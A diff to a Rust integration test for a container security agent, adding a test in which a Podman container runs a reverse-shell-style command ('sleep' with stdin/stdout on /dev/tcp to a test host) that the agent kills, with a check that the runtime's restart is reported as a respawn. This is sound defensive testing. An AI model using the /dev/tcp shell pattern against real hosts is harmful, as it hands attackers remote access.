@@ -12,6 +12,10 @@
 //! - `enforce.kill` on a lineage alert in a container kills the shell and what it runs, never
 //!   the web app (PID 1), conmon or the container (confined: the only web server is the
 //!   test's own program, by a name nothing else uses; only lineage alerts are answered).
+//! - A container whose init the agent killed (a reverse shell as PID 1, `enforce.kill` on
+//!   `reverse_shell` only, to a test host) and that its restart policy
+//!   (`--restart=on-failure:1`) brings back is a `respawn` restarted by the runtime (Podman,
+//!   through a new `conmon`), and the alert names the container.
 //!
 //! Needs root, podman and runc (`scripts/setup.sh`); skips loudly otherwise.
 
@@ -377,4 +381,95 @@ fn the_connect_guard_covers_containers() {
         err.contains("Operation not permitted"),
         "connect() from the container was not refused by the guard: {out:?}"
     );
+}
+
+/// A child process killed and reaped on drop, even when the test fails.
+struct Reaped(std::process::Child);
+
+impl Drop for Reaped {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A listener on RU4:`port` in the test hosts' namespace that accepts and holds connections.
+fn holding_listener(net: &TestNet, port: u16) -> Reaped {
+    let child = std::process::Command::new("ip")
+        .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c"])
+        .arg(format!(
+            "import socket\ns=socket.socket()\n\
+             s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
+             s.bind(('{RU4}', {port})); s.listen(50)\nheld=[]\n\
+             while True:\n    held.append(s.accept()[0])\n"
+        ))
+        .spawn()
+        .unwrap();
+    Reaped(child)
+}
+
+#[test]
+fn a_killed_container_init_restarted_by_its_policy_is_a_respawn_of_the_runtime() {
+    let test = "a_killed_container_init_restarted_by_its_policy_is_a_respawn_of_the_runtime";
+    if !require_root(test) || !available(test) {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("r");
+    let cnet = ContainerNet::new(&net);
+    let Some(mut podman) = Podman::new() else {
+        return;
+    };
+    let _listener = holding_listener(&net, 4447);
+    let table = Table::new("ctr");
+    // Confined: only reverse shells are killed, and the only one is the container's, to the
+    // test's own host RU4 (the machine-wide test lock keeps other tests' away).
+    let agent = Agent::start_with(
+        "",
+        &format!(
+            "[containers]\npodman_storage = [\"{}\"]\n[trust]\nips = [\"198.51.100.96/28\"]\n\
+             [enforce]\ntable = \"{}\"\nconnect_guard = false\nkill = true\n\
+             kill_grace = \"1s\"\nkill_on = [\"reverse_shell\"]\n\
+             protect = [\"rustc\", \"cargo\", \"cc1\", \"ld\", \"sentinel\"]\n",
+            podman.storage().display(),
+            table.0
+        ),
+    );
+    let name = format!("snt-restart-{}", std::process::id());
+    let network = format!("--network={}", cnet.podman_network());
+    // PID 1 of the container is a reverse shell: sleep with its stdin and stdout on a socket
+    // to RU4. Restarted once after a failure (the kill).
+    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4447 >&0");
+    let id = podman.run(
+        &name,
+        &[&network, "--restart=on-failure:1"],
+        &["bash", "-c", &shell],
+    );
+    let first = agent.wait_for("alert", "the container's reverse shell", |a| {
+        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
+    });
+    let first_pid = first["pid"].as_u64().unwrap();
+    let respawn = agent.wait_for("alert", "the restarted reverse shell as a respawn", |a| {
+        a["anomaly"] == "respawn" && a["container"]["id"] == id.as_str()
+    });
+    names_the_container(&respawn, &id, &name);
+    assert_ne!(respawn["pid"].as_u64().unwrap(), first_pid, "{respawn}");
+    let detail = respawn["detail"].as_str().unwrap_or("");
+    assert!(
+        detail.contains("/usr/bin/sleep came back")
+            && detail.contains("after the agent killed it")
+            && detail.contains(&format!(
+                "restarted by the container runtime podman (conmon), the restart policy of \
+                 container {name}"
+            )),
+        "{respawn}"
+    );
+    // The runtime did restart it: its own count says so.
+    let restarts = podman
+        .cmd()
+        .args(["inspect", "-f", "{{.RestartCount}}", &name])
+        .output()
+        .unwrap();
+    assert_eq!(String::from_utf8_lossy(&restarts.stdout).trim(), "1");
+    assert!(agent.status()["kills"].as_u64().unwrap_or(0) >= 1);
 }
